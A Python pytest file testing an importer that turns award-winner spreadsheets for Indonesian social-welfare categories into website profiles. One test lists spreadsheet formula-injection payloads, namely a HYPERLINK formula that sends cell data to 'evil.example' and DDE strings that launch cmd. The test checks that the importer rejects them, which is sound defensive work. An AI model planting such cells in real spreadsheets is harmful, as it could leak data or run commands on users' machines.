"""generator.importer: spreadsheets as people really fill them in → profiles that pass `check`."""

from __future__ import annotations

import csv
import datetime
import io
import os
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from PIL import Image

from generator import check
from generator.cli import run
from generator.importer import ImportReport, import_spreadsheet
from generator.load import split_front_matter
from generator.problems import Problem

TODAY = datetime.date(2026, 11, 28)
CATEGORIES = """\
- slug: psm
  short_name: PSM
  name: Pekerja Sosial Masyarakat
- slug: tksk
  short_name: TKSK
  name: Tenaga Kesejahteraan Sosial Kecamatan
- slug: karang-taruna
  short_name: Karang Taruna
  name: Karang Taruna
- slug: tagana
  short_name: Tagana
  name: Taruna Siaga Bencana
- slug: lks
  short_name: LKS
  name: Lembaga Kesejahteraan Sosial
"""
HEADINGS = ["Nama", "Kategori", "Provinsi", "Tahun", "Juara", "Kabupaten/Kota"]


@pytest.fixture
def content(tmp_path: Path) -> Path:
    folder = tmp_path / "content"
    folder.mkdir()
    (folder / "categories.yaml").write_text(CATEGORIES, encoding="utf-8")
    (folder / "site.yaml").write_text("title: T\nbase_url: https://example.org/\n")
    return folder


def _xlsx(path: Path, rows: list[list[Any]]) -> Path:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    workbook.save(path)
    return path


def _csv(path: Path, rows: list[list[str]], delimiter: str = ";") -> Path:
    path.write_text("\n".join(delimiter.join(r) for r in rows) + "\n", encoding="utf-8")
    return path


def _run(source: Path, content: Path, **options: Any) -> ImportReport:
    return import_spreadsheet(source, content, today=TODAY, **options)


def _fields(content: Path, rel: str) -> dict[str, Any]:
    split = split_front_matter((content / rel).read_text(encoding="utf-8"))
    assert isinstance(split, tuple)
    data = yaml.safe_load(split[0])
    assert isinstance(data, dict)
    return data


def _errors(report: ImportReport) -> list[Problem]:
    return [p for p in report.problems if p.is_error]


def _assert_site_valid(content: Path) -> None:
    result = check(content, today=TODAY)
    assert result.ok, [p.format() for p in result.problems if p.is_error]


def test_xlsx_with_messy_spellings_becomes_valid_profiles(tmp_path: Path, content: Path) -> None:
    sheet = _xlsx(
        tmp_path / "pemenang.xlsx",
        [
            ["Daftar Pemenang Pilar Sosial Teladan"],  # a title row above the headings
            [*HEADINGS, "Prestasi"],
            ["Siti Contoh", "Karang Taruna", "Jabar", 2019, "Juara 1", "Kab. Garut", "A; B"],
            ["Budi Contoh", "TKSK", "DKI", "2019", "Harapan II", None, None],
            [None, None, None, None, None, None, None],  # empty rows are ignored
            ["Ani Contoh", "KT", "Prov. Jawa Tengah", 2019.0, 2.0, "Kota Semarang", None],
            ["Wati Contoh", "Tagana", 33, 2019, None, None, "Dapur umum\nPengungsian"],
        ],
    )
    report = _run(sheet, content)
    assert not _errors(report), report.problems
    assert report.created == (
        "pillars/2019/siti-contoh.md",
        "pillars/2019/budi-contoh.md",
        "pillars/2019/ani-contoh.md",
        "pillars/2019/wati-contoh.md",
    )
    assert _fields(content, "pillars/2019/siti-contoh.md") == {
        "name": "Siti Contoh",
        "category": "karang-taruna",
        "province": "jawa-barat",
        "year": 2019,
        "rank": 1,
        "regency": "Kab. Garut",
        "achievements": ["A", "B"],
    }
    budi = _fields(content, "pillars/2019/budi-contoh.md")
    assert (budi["category"], budi["province"], budi["rank"]) == (
        "tksk",
        "dki-jakarta",
        "harapan-2",
    )
    assert "regency" not in budi  # an empty cell writes no field
    ani = _fields(content, "pillars/2019/ani-contoh.md")
    assert (ani["category"], ani["province"], ani["year"], ani["rank"]) == (
        "karang-taruna",
        "jawa-tengah",
        2019,
        2,
    )
    wati = _fields(content, "pillars/2019/wati-contoh.md")
    assert (wati["province"], "rank" in wati) == ("jawa-tengah", False)
    assert wati["achievements"] == ["Dapur umum", "Pengungsian"]
    # The marker names the sheet and the row as a spreadsheet program numbers it.
    text = (content / "pillars/2019/ani-contoh.md").read_text(encoding="utf-8")
    assert text.startswith("---\n# teladan import: pemenang.xlsx row 6 — ")
    assert text.endswith("\n---\n") and "\r" not in text
    _assert_site_valid(content)


def test_csv_with_english_headings_semicolons_and_bom(tmp_path: Path, content: Path) -> None:
    rows = [
        ["Name", " CATEGORY ", "province", "Year", "Rank", "Organization", "Since", "Summary"],
        ["Siti Contoh", "Taruna Siaga Bencana", "ID-JB", "2019", "juara 2", "no", "2008", "a: b"],
        [
            "Budi Contoh",
            "Lembaga Kesejahteraan Sosial",
            "jawa barat",
            "2019",
            "",
            "012",
            "",
            "x #1",
        ],
    ]
    source = tmp_path / "winners.csv"
    source.write_bytes(b"\xef\xbb\xbf" + "\r\n".join(";".join(r) for r in rows).encode())
    report = _run(source, content)
    assert not report.problems
    siti = _fields(content, "pillars/2019/siti-contoh.md")
    assert siti == {
        "name": "Siti Contoh",
        "category": "tagana",
        "province": "jawa-barat",
        "year": 2019,
        "summary": "a: b",
        "rank": 2,
        "organization": "no",
        "since": 2008,
    }
    budi = _fields(content, "pillars/2019/budi-contoh.md")
    assert (budi["category"], budi["organization"], budi["summary"]) == ("lks", "012", "x #1")
    # Values YAML would misread are quoted, so the project's own check raises no warning on them.
    text = (content / "pillars/2019/budi-contoh.md").read_text(encoding="utf-8")
    assert "organization: '012'" in text and "summary: 'x #1'" in text
    result = check(content, today=TODAY)
    assert result.ok
    assert not [p for p in result.problems if "YAML" in p.message or "' #'" in p.message]


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_comma_and_tab_separated_files(tmp_path: Path, content: Path, delimiter: str) -> None:
    rows = [["nama", "kategori", "provinsi", "tahun"], ["Siti Contoh", "psm", "Bali", "2019"]]
    report = _run(_csv(tmp_path / "w.csv", rows, delimiter), content)
    assert report.created == ("pillars/2019/siti-contoh.md",) and not report.problems


def test_cp1252_csv_is_read_with_a_warning(tmp_path: Path, content: Path) -> None:
    source = tmp_path / "excel.csv"
    text = "Nama;Kategori;Provinsi;Tahun;Kecamatan\r\nAndré Café;PSM;Bali;2019;Kuta – Utara\r\n"
    source.write_bytes(text.encode("cp1252"))
    report = _run(source, content)
    assert not _errors(report)
    [problem] = report.problems
    assert "Windows-1252" in problem.message and problem.path == str(source)
    fields = _fields(content, "pillars/2019/andre-cafe.md")
    assert (fields["name"], fields["district"]) == ("André Café", "Kuta – Utara")
    _assert_site_valid(content)


def _mixed_sheet(tmp_path: Path) -> Path:
    return _csv(
        tmp_path / "w.csv",
        [
            HEADINGS,
            ["Siti Contoh", "psm", "Jawa Barat", "2019", "", ""],
            ["Budi Contoh", "psm", "Jawa Barta", "2019", "", ""],
            ["Ani Contoh", "Pilar", "Bali", "2019", "Juara 4", ""],
            ["", "psm", "Bali", "2019", "", ""],
            ["Wati Contoh", "tksk", "Bali", "1980", "", ""],
            ["Dewi Contoh", "lks", "Aceh", "2018", "1", "Kab. Aceh Besar"],
        ],
    )


def test_invalid_rows_are_reported_by_row_and_nothing_is_written(
    tmp_path: Path, content: Path
) -> None:
    source = _mixed_sheet(tmp_path)
    report = _run(source, content)
    assert (report.created, report.updated, report.skipped_rows) == ((), (), ())
    assert not (content / "pillars").exists()
    by_row = {(p.line, p.field): p.message for p in _errors(report)}
    # The same checks as a profile file, told by row and by the column as headed in the sheet.
    assert by_row[(3, "province")] == (
        "column 'Provinsi': province 'Jawa Barta' is not a province; did you mean 'jawa-barat'?"
    )
    assert by_row[(4, "category")].startswith("column 'Kategori': category 'Pilar' is not a")
    assert by_row[(4, "rank")] == "column 'Juara': rank 'Juara 4' is not a rank"
    assert by_row[(5, "name")] == "'Nama' is empty"
    assert by_row[(6, "year")] == "column 'Tahun': '1980' is out of range (1990–2027)"
    assert {p.path for p in report.problems} == {str(source)}
    assert not report.ok


def test_skip_invalid_writes_only_the_valid_rows(tmp_path: Path, content: Path) -> None:
    report = _run(_mixed_sheet(tmp_path), content, skip_invalid=True)
    assert report.created == ("pillars/2019/siti-contoh.md", "pillars/2018/dewi-contoh.md")
    assert report.skipped_rows == (3, 4, 5, 6)
    assert sorted(p.name for p in (content / "pillars").rglob("*")) == [
        "2018",
        "2019",
        "dewi-contoh.md",
        "siti-contoh.md",
    ]  # no temporary files left behind
    _assert_site_valid(content)


def test_rerun_updates_the_fields_and_keeps_the_story(tmp_path: Path, content: Path) -> None:
    rows = [HEADINGS, ["Siti Contoh", "psm", "Jabar", "2019", "1", "Kabupaten Garut"]]
    assert _run(_csv(tmp_path / "w.csv", rows), content).created
    profile = content / "pillars/2019/siti-contoh.md"
    # Someone writes the story by hand: Windows line ends, a '---' rule, trailing spaces.
    story = "Kisah Siti — ibu RT.  \r\n\r\n---\r\n\r\n**Tebal** dan *miring*.\r\n".encode()
    profile.write_bytes(profile.read_bytes() + story)
    rows[1][5] = "Kabupaten Bandung"
    report = _run(_csv(tmp_path / "w.csv", rows), content)
    assert (report.updated, report.created, report.unchanged) == (
        ("pillars/2019/siti-contoh.md",),
        (),
        (),
    )
    assert _fields(content, "pillars/2019/siti-contoh.md")["regency"] == "Kabupaten Bandung"
    assert profile.read_bytes().endswith(b"\n---\n" + story)
    _assert_site_valid(content)


def test_rerun_without_changes_leaves_the_file_untouched(tmp_path: Path, content: Path) -> None:
    sheet = _xlsx(tmp_path / "w.xlsx", [HEADINGS, ["Siti Contoh", "PSM", 51, 2019, None, None]])
    _run(sheet, content)
    profile = content / "pillars/2019/siti-contoh.md"
    profile.write_text(profile.read_text(encoding="utf-8") + "Kisah.\n", encoding="utf-8")
    os.utime(profile, ns=(1_000_000_000_000_000_000, 1_000_000_000_000_000_000))
    before = profile.read_bytes()
    report = _run(sheet, content)
    assert report.unchanged == ("pillars/2019/siti-contoh.md",)
    assert (report.created, report.updated, report.problems) == ((), (), ())
    assert profile.stat().st_mtime_ns == 1_000_000_000_000_000_000
    assert profile.read_bytes() == before


def test_a_namesake_from_another_spreadsheet_and_province_is_refused(
    tmp_path: Path, content: Path
) -> None:
    """Two spreadsheets, two pillars of one name: the second does not take over the first's
    profile (and its story); the first spreadsheet, corrected, still moves its own."""
    first = [HEADINGS, ["Rina Wulansari", "psm", "Jawa Barat", "2024", "1", "Kabupaten Bandung"]]
    assert _run(_csv(tmp_path / "psm-jabar.csv", first), content).created
    profile = content / "pillars/2024/rina-wulansari.md"
    profile.write_text(profile.read_text(encoding="utf-8") + "Kisah Rina dari Bandung.\n")
    before = profile.read_bytes()
    other = [HEADINGS, ["Rina Wulansari", "tksk", "Jawa Tengah", "2024", "3", "Kota Semarang"]]
    report = _run(_csv(tmp_path / "tksk-jateng.csv", other), content)
    [problem] = _errors(report)
    assert problem.line == 2
    assert "pillars/2024/rina-wulansari.md, from another province" in problem.message
    assert "make the names differ" in problem.hint
    assert not report.updated and profile.read_bytes() == before

    first[1][2] = "Jawa Timur"  # (the first spreadsheet's province cell corrected)
    report = _run(_csv(tmp_path / "psm-jabar.csv", first), content)
    assert report.updated == ("pillars/2024/rina-wulansari.md",) and not _errors(report)
    assert _fields(content, "pillars/2024/rina-wulansari.md")["province"] == "jawa-timur"
    assert profile.read_text(encoding="utf-8").endswith("Kisah Rina dari Bandung.\n")


def test_a_hand_written_profile_is_never_overwritten(tmp_path: Path, content: Path) -> None:
    profile = content / "pillars/2019/siti-contoh.md"
    profile.parent.mkdir(parents=True)
    profile.write_text("---\nname: Siti Contoh\ncategory: psm\nprovince: bali\nyear: 2019\n---\n")
    before = profile.read_bytes()
    rows = [HEADINGS, ["Siti Contoh", "psm", "Bali", "2019", "1", ""]]
    report = _run(_csv(tmp_path / "w.csv", rows), content, skip_invalid=True)
    [problem] = _errors(report)
    assert problem.line == 2
    assert "pillars/2019/siti-contoh.md was written by hand" in problem.message
    assert "will not overwrite it" in problem.message
    assert report.skipped_rows == (2,) and not report.updated
    assert profile.read_bytes() == before


def test_a_profile_in_another_year_gets_the_rows_award(tmp_path: Path, content: Path) -> None:
    rows = [HEADINGS, ["Siti Contoh", "psm", "Bali", "2020", "", ""]]
    assert _run(_csv(tmp_path / "w.csv", rows), content).created
    rows[1][3] = "2019"  # the same pillar (name and province), honoured in another year
    report = _run(_csv(tmp_path / "w.csv", rows), content)
    assert not _errors(report) and report.updated == ("pillars/2020/siti-contoh.md",)
    assert "- year: 2019" in (content / "pillars/2020/siti-contoh.md").read_text("utf-8")
    assert not (content / "pillars/2019").exists()


def test_a_province_formed_after_the_year_is_an_error(tmp_path: Path, content: Path) -> None:
    rows = [
        HEADINGS,
        ["Siti Contoh", "psm", "papua-selatan", "2019", "", ""],
        ["Budi Contoh", "psm", "Papua Selatan", "2023", "", ""],
        ["Ani Contoh", "psm", "Kaltara", "2013", "", ""],
    ]
    report = _run(_csv(tmp_path / "w.csv", rows), content, skip_invalid=True)
    [problem] = _errors(report)
    assert (problem.line, problem.field) == (2, "province")
    assert (
        "Papua Selatan ('papua-selatan') was formed in 2022, after the selection year 2019"
        in problem.message
    )
    assert report.created == ("pillars/2023/budi-contoh.md", "pillars/2013/ani-contoh.md")


def test_the_same_name_twice_in_the_sheet_is_an_error(tmp_path: Path, content: Path) -> None:
    rows = [
        HEADINGS,
        ["Siti Contoh", "psm", "Bali", "2019", "", ""],
        ["Budi Contoh", "psm", "Bali", "2019", "", ""],
        ["SITI  CONTOH", "tksk", "Bali", "2021", "", ""],
    ]
    report = _run(_csv(tmp_path / "w.csv", rows), content)
    [problem] = _errors(report)
    assert (problem.line, problem.field) == (4, "name")
    assert "same web address ('siti-contoh') as row 2" in problem.message
    assert not report.created


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("jawa-barat", "jawa-barat"),
        ("Jawa Barat", "jawa-barat"),
        ("jawa barat", "jawa-barat"),
        ("Prov. Jawa Barat", "jawa-barat"),
        ("Provinsi Jawa Barat", "jawa-barat"),
        (32, "jawa-barat"),
        ("32", "jawa-barat"),
        (32.0, "jawa-barat"),
        ("ID-JB", "jawa-barat"),
        ("Jabar", "jawa-barat"),
        ("DKI", "dki-jakarta"),
        ("D.K.I. Jakarta", "dki-jakarta"),
        ("DIY", "di-yogyakarta"),
        ("NTT", "nusa-tenggara-timur"),
        ("Kaltara", "kalimantan-utara"),
        ("Sumatra Utara", "sumatera-utara"),
    ],
)
def test_province_spellings(tmp_path: Path, content: Path, cell: object, expected: str) -> None:
    sheet = _xlsx(tmp_path / "w.xlsx", [HEADINGS, ["Siti Contoh", "psm", cell, 2019]])
    report = _run(sheet, content)
    assert not report.problems
    assert _fields(content, "pillars/2019/siti-contoh.md")["province"] == expected


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("psm", "psm"),
        ("PSM", "psm"),
        ("Pekerja Sosial Masyarakat", "psm"),
        ("tksk", "tksk"),
        ("KT", "karang-taruna"),
        ("karang taruna", "karang-taruna"),
        ("Karang-Taruna", "karang-taruna"),
        ("TAGANA", "tagana"),
        ("Taruna Siaga Bencana", "tagana"),
        ("Lembaga Kesejahteraan Sosial", "lks"),
        ("LKS", "lks"),
    ],
)
def test_category_spellings(tmp_path: Path, content: Path, cell: str, expected: str) -> None:
    rows = [HEADINGS, ["Siti Contoh", cell, "Bali", "2019", "", ""]]
    report = _run(_csv(tmp_path / "w.csv", rows), content)
    assert not report.problems
    assert _fields(content, "pillars/2019/siti-contoh.md")["category"] == expected


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("Juara 1", 1),
        ("Juara I", 1),
        ("juara 2", 2),
        ("JUARA III", 3),
        ("1", 1),
        (1, 1),
        (2.0, 2),
        ("Harapan II", "harapan-2"),
        ("Harapan 3", "harapan-3"),
        ("harapan-1", "harapan-1"),
        ("-", None),
        (None, None),
    ],
)
def test_rank_spellings(tmp_path: Path, content: Path, cell: object, expected: object) -> None:
    sheet = _xlsx(tmp_path / "w.xlsx", [HEADINGS, ["Siti Contoh", "psm", "Bali", 2019, cell]])
    report = _run(sheet, content)
    assert not report.problems
    assert _fields(content, "pillars/2019/siti-contoh.md").get("rank") == expected


def _jpeg(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (8, 8), "white").save(path, "JPEG")


def test_since_and_photo_rules(tmp_path: Path, content: Path) -> None:
    _jpeg(content / "pillars/2019/ani.jpg")
    _jpeg(content / "pillars/2019/foto/wati.jpg")  # a photo in a subfolder, as a profile may
    rows = [
        ["nama", "kategori", "provinsi", "tahun", "sejak", "foto", "keterangan foto"],
        ["Siti Contoh", "psm", "Bali", "2019", "2020", "", ""],
        ["Budi Contoh", "psm", "Bali", "2019", "", "ani.jpg", ""],
        ["Ani Contoh", "psm", "Bali", "2019", "2010", "ani.jpg", "Ani di posyandu"],
        ["Wati Contoh", "psm", "Bali", "2019", "", "foto/wati.jpg", "Wati di dapur umum"],
        ["Dewi Contoh", "psm", "Bali", "2019", "", "dewi.jpg", "Dewi di posko"],
    ]
    report = _run(_csv(tmp_path / "w.csv", rows), content, skip_invalid=True)
    assert {(p.line, p.field) for p in _errors(report)} == {
        (2, "since"),
        (3, "photo_alt"),
        (6, "photo"),
    }
    # A photo that is not there stops the build, so it stops the import too: one rule, one word.
    [missing] = [p for p in _errors(report) if p.line == 6]
    assert missing.message.startswith(
        "column 'foto': photo file 'dewi.jpg' is not in pillars/2019/"
    )
    assert not [p for p in report.problems if not p.is_error]
    assert report.created == ("pillars/2019/ani-contoh.md", "pillars/2019/wati-contoh.md")
    assert _fields(content, "pillars/2019/ani-contoh.md")["photo_alt"] == "Ani di posyandu"
    assert _fields(content, "pillars/2019/wati-contoh.md")["photo"] == "foto/wati.jpg"
    _assert_site_valid(content)


def test_unknown_columns_give_one_warning_with_a_suggestion(tmp_path: Path, content: Path) -> None:
    rows = [[*HEADINGS, "Kutpan", "Catatan Panitia"], ["Siti Contoh", "psm", "Bali", "2019"]]
    report = _run(_csv(tmp_path / "w.csv", rows), content)
    [problem] = report.problems
    assert not problem.is_error and problem.line == 1
    assert "'Kutpan' (did you mean 'kutipan'?)" in problem.message
    assert "'Catatan Panitia'" in problem.message
    assert report.created


def test_missing_required_columns(tmp_path: Path, content: Path) -> None:
    report = _run(_csv(tmp_path / "w.csv", [["Nama", "Tahun"], ["Siti", "2019"]]), content)
    assert {p.field for p in _errors(report)} == {"category", "province"}
    assert not (content / "pillars").exists()


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("pemenang.xls", b"\xd0\xcf\x11\xe0", "use a .csv or .xlsx file"),
        ("pemenang.xlsx", b"not a zip at all", "not a valid Excel workbook"),
        ("pemenang.xlsx", b"PK\x03\x04broken", "not a valid Excel workbook"),
        ("pemenang.csv", b"", "the spreadsheet is empty"),
        ("pemenang.csv", b"PK\x03\x04\x00\x00", "Excel workbook saved with a .csv name"),
    ],
)
def test_files_that_are_not_spreadsheets(
    tmp_path: Path, content: Path, name: str, data: bytes, words: str
) -> None:
    source = tmp_path / name
    source.write_bytes(data)
    report = _run(source, content)
    [problem] = report.problems
    assert problem.is_error and words in (problem.message + problem.hint)
    assert problem.path == str(source) and not report.created


def test_a_missing_file_or_categories_file_is_a_problem(tmp_path: Path, content: Path) -> None:
    assert not _run(tmp_path / "nowhere.csv", content).ok
    rows = [HEADINGS, ["Siti Contoh", "psm", "Bali", "2019"]]
    (content / "categories.yaml").unlink()
    report = _run(_csv(tmp_path / "w.csv", rows), content)
    [problem] = report.problems
    assert "categories.yaml is missing" in problem.message and not report.created


def test_an_xlsx_that_understates_its_size_is_read_whole(tmp_path: Path, content: Path) -> None:
    sheet = _xlsx(tmp_path / "w.xlsx", [HEADINGS, ["Siti Contoh", "psm", "Bali", 2019]])
    # Some exporters write <dimension ref="A1"/> whatever the sheet holds.
    with zipfile.ZipFile(sheet) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    xml = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = re.sub(
        rb'<dimension ref="[^"]*"', b'<dimension ref="A1"', xml
    )
    with zipfile.ZipFile(sheet, "w") as target:
        for name, data in parts.items():
            target.writestr(name, data)
    report = _run(sheet, content)
    assert report.created == ("pillars/2019/siti-contoh.md",), report.problems


def test_reimport_keeps_fields_added_by_hand(tmp_path: Path, content: Path) -> None:
    """draft, tags or a date added to an imported profile survive the next import."""
    sheet = tmp_path / "w.csv"
    sheet.write_text(
        "nama,kategori,provinsi,tahun,kabupaten\nSiti Aminah,psm,bali,2019,Kabupaten Badung\n"
    )
    assert import_spreadsheet(sheet, content, today=TODAY).ok
    profile = content / "pillars" / "2019" / "siti-aminah.md"
    text = profile.read_text()
    profile.write_text(
        text.replace(
            "regency: Kabupaten Badung\n",
            "regency: Kabupaten Badung\ndraft: true\ntags: [lansia]\n",
        )
        + "Kisah.\n"
    )
    sheet.write_text(
        "nama,kategori,provinsi,tahun,kabupaten\nSiti Aminah,psm,bali,2019,Kota Denpasar\n"
    )
    report = import_spreadsheet(sheet, content, today=TODAY)
    assert report.updated == ("pillars/2019/siti-aminah.md",)
    updated = profile.read_text()
    assert (
        "regency: Kota Denpasar\n" in updated
        and "draft: true\n" in updated
        and "- lansia" in updated
    )
    assert updated.endswith("Kisah.\n")


def test_reimport_keeps_fields_added_by_hand_that_this_spreadsheet_has_no_column_for(
    tmp_path: Path, content: Path
) -> None:
    # A quote, a photo or 'since' have columns, but not in this spreadsheet: they were added by
    # hand and stay; a column the spreadsheet has is its own, even where the cell is empty.
    sheet = tmp_path / "w.csv"
    sheet.write_text("nama,kategori,provinsi,tahun,ringkasan\nSiti Aminah,psm,bali,2019,Satu.\n")
    assert import_spreadsheet(sheet, content, today=TODAY).ok
    profile = content / "pillars" / "2019" / "siti-aminah.md"
    added = "quote: Berbagi itu indah.\nsince: 2005\nphoto_alt: Siti di posko\n"
    profile.write_text(profile.read_text().replace("summary: Satu.\n", "summary: Satu.\n" + added))
    sheet.write_text("nama,kategori,provinsi,tahun,ringkasan\nSiti Aminah,psm,bali,2019,Dua.\n")
    assert import_spreadsheet(sheet, content, today=TODAY).updated == (
        "pillars/2019/siti-aminah.md",
    )
    updated = profile.read_text()
    assert "summary: Dua.\n" in updated and added in updated
    sheet.write_text("nama,kategori,provinsi,tahun,kutipan\nSiti Aminah,psm,bali,2019,\n")
    assert import_spreadsheet(sheet, content, today=TODAY).ok
    updated = profile.read_text()
    assert "quote:" not in updated  # (the spreadsheet's own column, left empty)
    assert "summary: Dua.\n" in updated and "since: 2005\n" in updated


def test_the_command_names_the_spreadsheet_row_once(content: Path, tmp_path: Path) -> None:
    source = _csv(
        tmp_path / "w.csv",
        [["nama", "kategori", "provinsi", "tahun", "peringkat"], ["Siti", "PSM", "Jabar", "2019", "Juara 9"]],
    )  # fmt: skip
    out, err = io.StringIO(), io.StringIO()
    code = run(["import", str(source), "--content", str(content)], out, err)
    assert code == 1
    assert f"{source}, row 2: column 'peringkat': rank 'Juara 9' is not a rank" in err.getvalue()
    assert "row 2: row 2" not in err.getvalue() and ":2:" not in err.getvalue()
    assert "fix the 1 problem above" in err.getvalue()


def test_merged_cells_give_their_value_to_every_row_they_span(
    tmp_path: Path, content: Path
) -> None:
    # The committee merges the category (and the year) of a group of winners into one cell.
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in [
        HEADINGS,
        ["Siti Contoh", "TKSK", "Bali", 2019],
        ["Budi Contoh", None, "Aceh", None],
        ["Ani Contoh", None, "Jabar", None],
        ["Wati Contoh", "PSM", "Bali", 2020],
    ]:
        sheet.append(row)
    sheet.merge_cells("B2:B4")
    sheet.merge_cells("D2:D4")
    workbook.save(tmp_path / "w.xlsx")
    report = _run(tmp_path / "w.xlsx", content)
    assert report.ok, report.problems
    for slug in ("siti-contoh", "budi-contoh", "ani-contoh"):
        fields = _fields(content, f"pillars/2019/{slug}.md")
        assert (fields["category"], fields["year"]) == ("tksk", 2019)
    assert _fields(content, "pillars/2020/wati-contoh.md")["category"] == "psm"


def test_a_formula_never_calculated_is_named_as_such(tmp_path: Path, content: Path) -> None:
    # openpyxl, like many scripts, saves formulas without their results.
    sheet = _xlsx(
        tmp_path / "w.xlsx",
        [HEADINGS, ['=CONCAT("Siti ","Contoh")', "psm", "Bali", 2019], ["", "psm", "Bali", 2019]],
    )
    report = _run(sheet, content)
    by_row = {p.line: p for p in _errors(report)}
    assert by_row[2].message == (
        "column 'Nama': the cell holds a formula whose result was never calculated "
        '(=CONCAT("Siti ","Contoh"))'
    )
    assert "save it again" in by_row[2].hint
    assert by_row[3].message == "'Nama' is empty"  # a cell that is really empty
    assert not report.created


def test_a_large_csv_cell_is_read_and_a_huge_one_named(tmp_path: Path, content: Path) -> None:
    achievements = "; ".join(f"Penghargaan nomor {i}" for i in range(8000))  # ~200 KB
    rows = [[*HEADINGS[:4], "Prestasi"], ["Siti Contoh", "psm", "Bali", "2019", achievements]]
    report = _run(_csv(tmp_path / "w.csv", rows, ","), content)
    assert report.created == ("pillars/2019/siti-contoh.md",), report.problems
    assert len(_fields(content, "pillars/2019/siti-contoh.md")["achievements"]) == 8000
    rows[1][4] = "x" * 2_100_000
    report = _run(_csv(tmp_path / "w.csv", rows, ","), content)
    [problem] = _errors(report)
    assert (problem.line, problem.field) == (2, "achievements")
    assert problem.message == (
        "column 'Prestasi': the cell holds 2.1 MB of text; a whole profile file is at most 2 MB"
    )
    assert "field limit" not in problem.message


def test_a_quote_never_closed_is_named_not_swallowing_rows(tmp_path: Path, content: Path) -> None:
    source = tmp_path / "w.csv"
    lines = ["Nama,Kategori,Provinsi,Tahun", 'Siti Contoh,psm,"Bali,2019']
    lines += [f"Orang {i},psm,Bali,2019" for i in range(10_000)]  # over 128 KB in one cell
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = _run(source, content)
    [problem] = report.problems
    assert problem.line == 2
    assert problem.message.startswith('column C: a quote (") opened in this cell is never closed')
    assert not (content / "pillars").exists()


@pytest.mark.parametrize(
    ("column", "cell"),
    [
        ("Nama", '=HYPERLINK("http://evil.example/?x="&A1,"klik")'),
        ("Kabupaten/Kota", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("Kabupaten/Kota", "+62 Kab. Garut"),
        ("Kabupaten/Kota", "-2+3+cmd|' /C calc'!A0"),
        ("Kabupaten/Kota", "\t=1+2"),
        ("Prestasi", "Juara lomba; =cmd|' /C calc'!A0"),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_refused(
    tmp_path: Path, content: Path, column: str, cell: str
) -> None:
    row = {"Nama": "Siti Contoh", "Kabupaten/Kota": "Kab. Garut", "Prestasi": "Juara lomba"}
    row[column] = cell
    headings = [*HEADINGS[:4], "Kabupaten/Kota", "Prestasi"]
    values = [row["Nama"], "psm", "Bali", "2019", row["Kabupaten/Kota"], row["Prestasi"]]
    source = tmp_path / "w.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([headings, values])  # (an .xlsx would hold real formulas)
    report = _run(source, content)
    [problem] = _errors(report)
    start = cell.strip()[0] if column != "Prestasi" else "="
    assert problem.line == 2 and problem.message.startswith(f"column '{column}': '")
    assert f"starts with '{start}', so a spreadsheet program would run it" in problem.message
    assert f"without the leading '{start}'" in problem.hint
    assert not (content / "pillars").exists()


def test_list_bullets_and_dashes_are_not_formulas(tmp_path: Path, content: Path) -> None:
    rows = [
        [*HEADINGS, "Prestasi"],
        ["Siti Contoh", "psm", "Bali", "2019", "-", "–", "- Juara lomba\n- Kader terbaik"],
    ]
    report = _run(_xlsx(tmp_path / "w.xlsx", rows), content)
    assert report.ok, report.problems
    fields = _fields(content, "pillars/2019/siti-contoh.md")
    assert fields["achievements"] == ["Juara lomba", "Kader terbaik"]
    assert "rank" not in fields and "regency" not in fields


def test_a_photo_is_looked_for_once_the_year_is_right(tmp_path: Path, content: Path) -> None:
    rows = [
        ["nama", "kategori", "provinsi", "tahun", "foto", "keterangan foto"],
        ["Siti Contoh", "psm", "Bali", "dua ribu", "siti.jpg", "Siti di posko"],
    ]
    report = _run(_csv(tmp_path / "w.csv", rows), content)
    assert [p.field for p in report.problems] == ["year"]


def test_reimport_keeps_draft_tags_and_summary_typed_in_the_file(
    tmp_path: Path, content: Path
) -> None:
    # What PANDUAN promises staff: these three, typed by hand into an imported profile, stay;
    # only a column the spreadsheet has (here 'kabupaten') is the spreadsheet's.
    sheet = _csv(tmp_path / "w.csv", [["nama", "kategori", "provinsi", "tahun", "kabupaten"], ["Siti Aminah", "psm", "bali", "2019", "Badung"]])  # fmt: skip
    assert _run(sheet, content).ok
    profile = content / "pillars" / "2019" / "siti-aminah.md"
    by_hand = "draft: true\ntags:\n- lansia\nsummary: Ditulis tangan.\n"
    text = profile.read_text()
    assert text.count("regency: Badung\n") == 1
    profile.write_text(text.replace("regency: Badung\n", "regency: Badung\n" + by_hand))
    _csv(sheet, [["nama", "kategori", "provinsi", "tahun", "kabupaten"], ["Siti Aminah", "psm", "bali", "2019", "Buleleng"]])  # fmt: skip
    assert _run(sheet, content).updated == ("pillars/2019/siti-aminah.md",)
    fields = _fields(content, "pillars/2019/siti-aminah.md")
    assert fields["regency"] == "Buleleng"
    assert (fields["draft"], fields["tags"], fields["summary"]) == (
        True,
        ["lansia"],
        "Ditulis tangan.",
    )
